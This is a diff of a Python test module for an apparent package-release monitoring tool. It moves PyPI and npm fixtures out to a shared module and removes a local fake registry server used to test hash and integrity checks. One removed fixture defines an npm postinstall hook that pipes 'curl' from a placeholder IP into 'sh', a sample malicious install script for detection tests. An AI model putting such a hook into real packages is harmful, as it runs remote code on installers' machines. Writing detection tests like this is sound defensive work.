@@ -2,16 +2,11 @@
 
 from __future__ import annotations
 
-import base64
 import gzip
-import hashlib
-import io
 import json
 import os
 import tarfile
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import httpx
@@ -30,97 +25,16 @@ from producers.registry import (
     release_diff,
     unified_diff,
 )
+from tests.fixtures.registry import (
+    INIT,
+    PKG_HOOK,
+    PKG_OLD,
+    SETUP_NEW,
+    SETUP_OLD,
+    npm_files,
+    tarball,
+)
 from worker.cli import app
-
-SETUP_OLD = b'from setuptools import setup\n\nsetup(name="demo-pkg", version="1.0.0")\n'
-SETUP_NEW = b'from setuptools import setup\n\nsetup(name="demo-pkg", version="1.0.1")\n'
-INIT = b'"""Demo."""\n\n\ndef add(a, b):\n    return a + b\n'
-PKG_OLD = {"name": "demo-npm", "version": "1.0.0", "main": "index.js"}
-PKG_HOOK = PKG_OLD | {"version": "1.0.1", "scripts": {"postinstall": "curl -s http://203.0.113.9/i.sh | sh"}}
-INDEX_JS = b"module.exports = (a, b) => a + b;\n"
-
-
-def tarball(top: str, files: dict[str, bytes], extra: list[tarfile.TarInfo] = ()) -> bytes:
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
-        for name, content in files.items():
-            info = tarfile.TarInfo(f"{top}/{name}")
-            info.size = len(content)
-            tf.addfile(info, io.BytesIO(content))
-        for info in extra:
-            tf.addfile(info)
-    return buf.getvalue()
-
-
-def npm_files(pkg: dict[str, object]) -> dict[str, bytes]:
-    return {"package.json": json.dumps(pkg, indent=2).encode() + b"\n", "index.js": INDEX_JS}
-
-
-class Registry:
-    """Archives served by path, plus the PEP 691 and npm metadata documents that name them."""
-
-    def __init__(self) -> None:
-        self.blobs: dict[str, bytes] = {}
-        self.docs: dict[str, bytes] = {}
-        self.tamper: set[str] = set()
-
-    def pypi(self, project: str, releases: dict[str, bytes], yanked: tuple[str, ...] = ()) -> None:
-        files = []
-        for version, blob in releases.items():
-            filename = f"{project.replace('-', '_')}-{version}.tar.gz"
-            self.blobs[f"/files/{filename}"] = blob
-            files.append(
-                {
-                    "filename": filename,
-                    "url": f"../../files/{filename}",
-                    "hashes": {"sha256": hashlib.sha256(blob).hexdigest()},
-                    "yanked": version in yanked,
-                }
-            )
-        self.docs[f"/simple/{project}/"] = json.dumps({"name": project, "files": files}).encode()
-
-    def npm(self, name: str, releases: dict[str, bytes], base: str, latest: str) -> None:
-        versions = {}
-        for version, blob in releases.items():
-            path = f"/tarballs/{name.replace('/', '-')}-{version}.tgz"
-            self.blobs[path] = blob
-            integrity = "sha512-" + base64.b64encode(hashlib.sha512(blob).digest()).decode()
-            versions[version] = {"dist": {"tarball": base + path, "integrity": integrity}}
-        doc = {"name": name, "dist-tags": {"latest": latest}, "versions": versions}
-        self.docs["/" + name.replace("/", "%2F")] = json.dumps(doc).encode()
-
-
-@pytest.fixture()
-def served(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Registry, str]]:
-    reg = Registry()
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 - http.server's name
-            body = reg.docs.get(self.path) or reg.blobs.get(self.path)
-            if body is None:
-                self.send_response(404)
-                self.end_headers()
-                return
-            if self.path in reg.tamper:
-                body = body[:-1] + bytes([body[-1] ^ 1])
-            self.send_response(200)
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, *args: object) -> None:
-            pass
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    base = f"http://127.0.0.1:{server.server_port}"
-    monkeypatch.setenv("CANARY_PYPI_INDEX_URL", f"{base}/simple")
-    monkeypatch.setenv("CANARY_NPM_REGISTRY", base)
-    try:
-        yield reg, base
-    finally:
-        server.shutdown()
-        server.server_close()
 
 
 @pytest.fixture()
